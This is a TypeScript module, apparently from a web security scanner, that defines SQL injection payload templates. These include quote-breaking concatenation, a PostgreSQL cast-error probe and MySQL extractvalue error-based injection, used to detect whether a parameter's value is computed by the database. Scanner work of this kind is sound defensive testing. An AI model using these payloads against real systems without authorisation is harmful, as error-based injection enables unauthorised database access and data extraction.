import type { ComputationSyntax } from './computation';

interface Written {
  readonly id: string;
  readonly place: string;
  readonly unless?: string;
  readonly fits?: ComputationSyntax['fits'];
  write(value: string, expression: string): string;
}

/** As a text, the expression is not computed. */
const computation = ({ write, ...rest }: Written): ComputationSyntax => ({
  ...rest,
  // PostgreSQL has no larger numbers than 2^31 unless it is told.
  write: (value, one, other) => write(value, `CAST(${one} AS DECIMAL(12))*${other}`),
  quote: (value, one, other) => write(value, `'${one}*${other}'`),
});

/** Where a text that the database has put together is in the page, or in an error text: the statement itself fails then. */
export const SQL_COMPUTATIONS: readonly ComputationSyntax[] = [
  computation({
    id: 'shown-text',
    place: 'a text in single quotes that the page shows',
    write: (value, expression) => `${value}'||CAST(${expression} AS TEXT)||'`,
  }),
  computation({
    id: 'error-postgresql',
    place: 'a text in single quotes',
    write: (value, expression) => `${value}'||CAST(CAST('x'||CAST(${expression} AS TEXT) AS INT) AS TEXT)||'`,
  }),
  computation({
    id: 'error-mysql-number',
    place: 'a number',
    fits: (value) => /^-?\d{1,15}$/.test(value),
    write: (value, expression) => `${value}*extractvalue(1,concat(0x7e,${expression}))`,
  }),
  computation({
    id: 'error-mysql-quoted',
    place: 'a text in single quotes',
    unless: 'single-1',
    write: (value, expression) => `${value}' AND extractvalue(1,concat(0x7e,${expression}))=1 AND 'a'<='a`,
  }),
];
